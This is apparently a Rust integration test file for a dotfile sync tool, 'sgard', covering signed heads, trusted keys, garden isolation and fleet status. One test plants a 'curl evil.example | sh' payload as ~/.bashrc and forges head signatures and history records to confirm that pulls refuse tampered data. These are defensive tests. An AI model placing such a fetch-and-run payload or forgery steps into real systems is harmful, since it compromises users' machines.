fn a_go_clients_push_is_taken_by_a_fresh_server_and_keeps_the_run_flags() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    a.write("bin/setup", "#!/bin/sh\necho ran >> \"$HOME/ran\"\n");
    a.chmod("bin/setup", 0o755);
    local(&a, &["add", "--run", "once", "~/bin/setup"]).ok();
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", addr]).ok();
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(addr).await;
        let token = login(&mut c, kb).await;
        let pulled = pull_manifest(&mut c, &token).await.unwrap();
        let mut m = pulled.manifest.unwrap();
        // What the Go client sends back after an edit of another file: the
        // same entries without run flags, and a newer time.
        for e in &mut m.files {
            e.run = String::new();
        }
        let other = b"go edit\n".to_vec();
        m.files.push(file_entry("~/go-file", &sha(&other)));
        m.updated = pb_time(now_secs() + 3600);
        let req = v1::PushManifestRequest {
            manifest: Some(m),
            ..Default::default()
        };
        let r = tmo(c.push_manifest(authed(req, &token)))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(r.decision, Decision::Accepted as i32);
        push_blobs(&mut c, &token, vec![(sha(&other), other)])
            .await
            .unwrap();
    });
    let m = fs::read_to_string(srv.repo.join("manifest.yaml")).unwrap();
    assert!(m.contains("~/go-file"), "{m}");
    assert!(
        m.contains("run: once"),
        "the Go client's push dropped the flag: {m}"
    );
    let b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("ran"), b"ran\n", "the script did not run");
    drop(srv);

    // A fresh `sgardd --init` is older than any machine: a Go client's
    // first push (taken only when newer than the server's) is taken.
    let fresh = serve(
        &w.srv_home(),
        &w.root().join("fresh"),
        &w.serve_args(0, &[]),
    );
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(&fresh.addr).await;
        let token = login(&mut c, ka).await;
        let mut req = push_req(vec![], "", false);
        if let Some(m) = req.manifest.as_mut() {
            m.updated = pb_time(1);
        }
        let r = tmo(c.push_manifest(authed(req, &token)))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
    });
}

/// The server's store is written by an attacker: they store an object of
/// their own and point `~/.bashrc` at it. Whatever they do with the head's
/// signature (leave it, move it onto the new head, sign with their own
/// key), a machine that trusts only its own keys refuses the head (exit 3),
/// writes nothing, and records nothing.
#[test]
fn a_tampered_head_is_refused_whatever_the_attacker_does_with_the_signature() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    a.write(".bashrc", "echo safe\n");
    track(&a, &[".bashrc"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stderr_has("trusting the key SHA256:");
    assert_eq!(b.read(".bashrc"), b"echo safe\n");
    // B trusts A's key now (first use); `trust list` says so.
    local(&b, &["trust", "list"])
        .ok()
        .stdout_has(&fingerprint(ka));

    // The attacker's object and head.
    let evil = b"curl evil.example | sh\n";
    let evil_hash = sha(evil);
    let blob = blob_file(&srv.repo, &evil_hash);
    fs::create_dir_all(blob.parent().unwrap()).unwrap();
    fs::write(&blob, evil).unwrap();
    let manifest_path = srv.repo.join("manifest.yaml");
    let honest = fs::read_to_string(&manifest_path).unwrap();
    let good_hash = sha(b"echo safe\n");
    assert!(honest.contains(&good_hash), "{honest}");
    let tampered = honest.replace(&good_hash, &evil_hash);
    fs::write(&manifest_path, &tampered).unwrap();
    let sig_path = srv.repo.join("head-signature");
    let honest_sig = fs::read_to_string(&sig_path).unwrap();
    let index_before = fs::read(b.index()).unwrap();
    let refused = |why: &str| {
        let r = sg(&b, kb, &["pull", "-r", addr]);
        r.code(3).stderr_has(why).stderr_has("nothing was written");
        assert_eq!(
            b.read(".bashrc"),
            b"echo safe\n",
            "the tampered head was restored"
        );
        assert_eq!(
            fs::read(b.index()).unwrap(),
            index_before,
            "a refused pull recorded"
        );
    };

    // 1. The signature left as it was (it names the old head): unsigned.
    refused("it is not signed");
    // 2. The signature moved onto the tampered head: it names another manifest.
    let new_id = sha(tampered.as_bytes());
    let (_, rest) = honest_sig.split_once('\n').unwrap();
    fs::write(&sig_path, format!("head {new_id}\n{rest}")).unwrap();
    refused("its manifest is not the one signed");
    // 3. Signed anew with the attacker's own key (as a server holding any
    // key could): a key B does not trust.
    let stranger = w.stranger();
    let statement = format!("sgard head statement v1\nmanifest {new_id}\n");
    let st_file = w.root().join("statement");
    fs::write(&st_file, &statement).unwrap();
    let o = Command::new("ssh-keygen")
        .args(["-Y", "sign", "-n", "sgard", "-f"])
        .arg(&stranger)
        .arg(&st_file)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let forged = fs::read_to_string(w.root().join("statement.sig")).unwrap();
    fs::write(&sig_path, format!("head {new_id}\n{statement}{forged}")).unwrap();
    refused("a key this machine does not trust");
    // --allow-unsigned does not take a head signed by an untrusted key.
    sg(&b, kb, &["pull", "--allow-unsigned", "-r", addr]).code(3);
    drop(srv);
}

/// `trust add`, `list`, `remove`; only the history records the head's
/// signature names are taken (a record the server added is not); a Go
/// client's unsigned push is refused by machines that saw signed heads
/// unless `--allow-unsigned`, and a repository that never had a signed head
/// keeps working.
#[test]
fn trusted_keys_and_unsigned_heads() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    a.write("f", "one\n");
    track(&a, &["f"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    // A's own key is trusted by its push.
    local(&a, &["trust", "list"])
        .ok()
        .stdout_has(&fingerprint(ka));
    // B trusts A's key before its first pull: no first-use note.
    let b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    let r = sg(&b, kb, &["pull", "-r", addr]);
    r.ok();
    assert!(!r.stderr.contains("trusting the key"), "{r:#?}");
    // Removed: refused.
    change(&mut a, "f", "two\n", 5);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let fp = fingerprint(ka);
    local(&b, &["trust", "remove", &fp])
        .ok()
        .stdout_has("No longer trusting");
    sg(&b, kb, &["pull", "-r", addr]).code(3);
    assert_eq!(b.read("f"), b"one\n");
    trust(&b, ka);
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f"), b"two\n");

    // A record the server made up (not in the signed statement: a copy of
    // a real one with another message and time) is not taken into B's
    // history; the signed ones are.
    change(&mut a, "f", "three\n", 6);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let hist_path = srv.repo.join("history.yaml");
    let hist = fs::read_to_string(&hist_path).unwrap();
    let first = hist.find("    - id: ").unwrap();
    let next = hist[first + 1..]
        .find("    - id: ")
        .map_or(hist.len(), |n| first + 1 + n);
    let record = &hist[first..next];
    let time_line = record
        .lines()
        .find(|l| l.trim_start().starts_with("time: "))
        .unwrap();
    let forged = record
        .replace(time_line, "      time: 2026-03-23T12:07:00Z")
        .replace(
            "reason: checkpoint",
            "reason: checkpoint\n      message: planted by the server",
        );
    fs::write(&hist_path, format!("{hist}{forged}")).unwrap();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f"), b"three\n");
    let log = serde_json::to_string(&log_json(&b)).unwrap();
    assert!(
        !log.contains("planted"),
        "a record no machine signed was taken: {log}"
    );
    let checkpoints = |t: &TestEnv| -> Vec<String> {
        log_json(t)
            .iter()
            .filter(|r| r["reason"] == "checkpoint")
            .map(|r| r["id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        checkpoints(&b),
        checkpoints(&a),
        "the signed records were taken"
    );

    // A Go client pushes unsigned: B (which saw signed heads) refuses it.
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(addr).await;
        let token = login(&mut c, kb).await;
        let mut m = pull_manifest(&mut c, &token)
            .await
            .unwrap()
            .manifest
            .unwrap();
        m.updated = pb_time(now_secs() + 7200);
        let req = v1::PushManifestRequest {
            manifest: Some(m),
            ..Default::default()
        };
        let r = tmo(c.push_manifest(authed(req, &token)))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
        push_blobs(&mut c, &token, vec![]).await.unwrap();
    });
    assert!(!srv.repo.join("head-signature").exists());
    sg(&b, kb, &["pull", "-r", addr])
        .code(3)
        .stderr_has("it is not signed")
        .stderr_has("--allow-unsigned");
    sg(&b, kb, &["pull", "--allow-unsigned", "-r", addr]).ok();

    // A repository that never had a signed head (only Go clients) keeps
    // working: a machine that never saw a signed head takes unsigned ones.
    let c_home = TestEnv::new();
    sg(&c_home, kb, &["pull", "-r", addr]).ok();
    assert_eq!(c_home.read("f"), b"three\n");
    drop(srv);
}

/// `garden="name"` in `authorized_keys` puts a key's machines in a garden
/// of their own: its heads, history and objects are invisible to other
/// gardens' keys (no existence oracle either), and a change of the file
/// applies without a restart.
#[test]
fn gardens_are_isolated_and_follow_the_authorized_keys_file() {
    let w = world_or_skip!(3);
    let (ka, kb, kc) = (w.key(0), w.key(1), w.key(2));
    let lines = format!(
        "garden=\"home\" {}no-pty,garden=\"work\" {}{}",
        pubkey(ka),
        pubkey(kb),
        pubkey(kc)
    );
    fs::write(w.auth_keys(), &lines).unwrap();
    let srv = w.serve(&[]);
    let addr = srv.addr.as_str();
    let a = TestEnv::init();
    let secret = noise(10_000, 9);
    a.write("home-only", &secret);
    track(&a, &["home-only"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    assert!(srv.repo.join("gardens/home/manifest.yaml").is_file());
    // work and the default garden see nothing of it.
    for k in [kb, kc] {
        let r = sg(&TestEnv::init(), k, &["list", "-r", addr]);
        r.ok();
        assert!(!r.stdout.contains("home-only"), "{r:#?}");
    }
    // Not even by asking for the object or its chunks.
    let h = sha(&secret);
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(addr).await;
        let token = login(&mut c, kb).await;
        let got = pull_blobs(&mut c, &token, &[h.as_str()]).await;
        assert!(
            got.is_err() || got.unwrap().is_empty(),
            "work read home's object"
        );
        let r = tmo(c.missing_chunks(authed(
            v1::MissingChunksRequest {
                hashes: vec![h.clone()],
            },
            &token,
        )))
        .await
        .unwrap()
        .into_inner();
        assert_eq!(
            r.missing,
            vec![h.clone()],
            "an existence oracle across gardens"
        );
    });
    // Moving kb into home (no restart): it sees home's head.
    let lines = format!(
        "garden=\"home\" {}garden=\"home\" {}{}",
        pubkey(ka),
        pubkey(kb),
        pubkey(kc)
    );
    fs::write(w.auth_keys(), &lines).unwrap();
    // The file's time must differ for the reload to see it.
    let later = std::time::SystemTime::now() + Duration::from_secs(5);
    fs::File::options()
        .write(true)
        .open(w.auth_keys())
        .unwrap()
        .set_modified(later)
        .unwrap();
    let b = TestEnv::init();
    sg(&b, kb, &["list", "-r", addr])
        .ok()
        .stdout_has("home-only");
    drop(srv);
}

/// `sgard fleet` lists the machines of the garden: host, key, state
/// (current / behind / ahead) and when each was last seen.
#[test]
fn fleet_shows_a_machine_behind() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    a.write("f", "one\n");
    track(&a, &["f"]);
    let on = |host: &'static str| [("SGARD_HOSTNAME", host)];
    sg_env(&a, Some(ka), &["push", "-r", addr], &on("laptop")).ok();
    // B pulls later (its merge's record is dated then, not as A's head).
    let mut b = TestEnv::new();
    b.now = now_plus(3);
    sg_env(&b, Some(kb), &["pull", "-r", addr], &on("desktop")).ok();
    let r = sg_env(
        &a,
        Some(ka),
        &["fleet", "-r", addr, "--json"],
        &on("laptop"),
    );
    let v = json_of(r.ok());
    let state = |v: &Value, host: &str| {
        v["machines"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["host"] == host)
            .unwrap_or_else(|| panic!("{host} missing: {v}"))["state"]
            .clone()
    };
    assert_eq!(state(&v, "laptop"), "current");
    assert_eq!(state(&v, "desktop"), "current");
    // A moves on: B is behind; A's own edit not pushed yet makes A ahead.
    change(&mut a, "f", "two\n", 5);
    sg_env(&a, Some(ka), &["push", "-r", addr], &on("laptop")).ok();
    let v = json_of(
        sg_env(
            &a,
            Some(ka),
            &["fleet", "-r", addr, "--json"],
            &on("laptop"),
        )
        .ok(),
    );
    assert_eq!(state(&v, "desktop"), "behind");
    assert_eq!(state(&v, "laptop"), "current");
    let desk = v["machines"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["host"] == "desktop")
        .unwrap()
        .clone();
    assert_eq!(desk["behind"], true);
    assert!(desk["last_sync"].as_str().unwrap().ends_with('Z'));
    assert_eq!(desk["key"], fingerprint(kb));
    // The text view says the same.
    sg_env(&a, Some(ka), &["fleet", "-r", addr], &on("laptop"))
        .ok()
        .stdout_has("desktop")
        .stdout_has("behind");
    drop(srv);
}

/// Issue 39, defect 2, on a folder server.
#[test]
fn two_addresses_of_one_folder_server_are_one_garden() {
    let w = world_or_skip!(2);
    // Two sgardd over one folder (an NFS mount served twice, or a server
    // reached by two names).
    let (s1, s2) = (w.serve(&[]), w.serve(&[]));
    alternating_addresses_are_one_garden(w.key(0), w.key(1), &s1.addr, &s2.addr);
}

/// A machine that alternated between two addresses of one garden before
/// servers named their gardens kept a base per address. After the
/// upgrade, the first sync goes through the address whose base is older:
/// the base the server's history puts latest is taken, so nothing this
/// machine never edited is a conflict.
#[test]
fn an_upgrade_from_bases_kept_per_address_takes_the_latest() {
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let (s1, s2) = (w.serve(&[]), w.serve(&[]));
    let mut a = TestEnv::init();
    a.write("f", "1\n");
    track(&a, &["f"]);
    sg(&a, ka, &["push", "-r", &s1.addr]).ok();
    let mut b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    b.now = now_plus(1);
    sg(&b, kb, &["pull", "-r", &s1.addr]).ok();
    let head_of = |t: &TestEnv| {
        let state = fs::read_to_string(t.repo().join("sync-state")).unwrap();
        state
            .lines()
            .find_map(|l| l.strip_prefix("garden "))
            .and_then(|l| l.split(' ').nth(1))
            .unwrap()
            .to_owned()
    };
    let h1 = head_of(&b);
    change(&mut a, "f", "2\n", 2);
    sg(&a, ka, &["push", "-r", &s1.addr]).ok();
    b.now = now_plus(3);
    sg(&b, kb, &["pull", "-r", &s2.addr]).ok();
    let h2 = head_of(&b);
    assert_ne!(h1, h2);
    // As an older sgard left it: the first address's base is the older.
    fs::write(
        b.repo().join("sync-state"),
        format!("{} {h1}\n{} {h2}\n", s1.addr, s2.addr),
    )
    .unwrap();
    change(&mut a, "f", "3\n", 4);
    sg(&a, ka, &["push", "-r", &s1.addr]).ok();
    b.now = now_plus(5);
    let r = sg(&b, kb, &["pull", "-r", &s1.addr]);
    r.ok();
    no_conflict(&r);
    assert_eq!(b.read("f"), b"3\n");
    local(&b, &["status", "--exit-code"]).ok();
}

/// Issue 39, defect 1, on a folder server.
#[test]
fn a_refused_push_leaves_no_false_conflict_on_a_folder_server() {
    let w = world_or_skip!(1);
    // The flag's old name still works.
    let srv = w.serve(&["--max-blob-size", "5000000"]);
    a_refused_push_leaves_no_false_conflict(w.key(0), &srv.addr, false);
}

/// Issue 39, item 6, on a folder server: `--max-file-size` bounds a file
/// sent in chunks as it does a whole one.
#[test]
fn a_chunked_file_over_the_limit_is_refused_on_a_folder_server() {
    let w = world_or_skip!(1);
    let srv = w.serve(&["--max-file-size", "5000000"]);
    a_refused_push_leaves_no_false_conflict(w.key(0), &srv.addr, true);
}
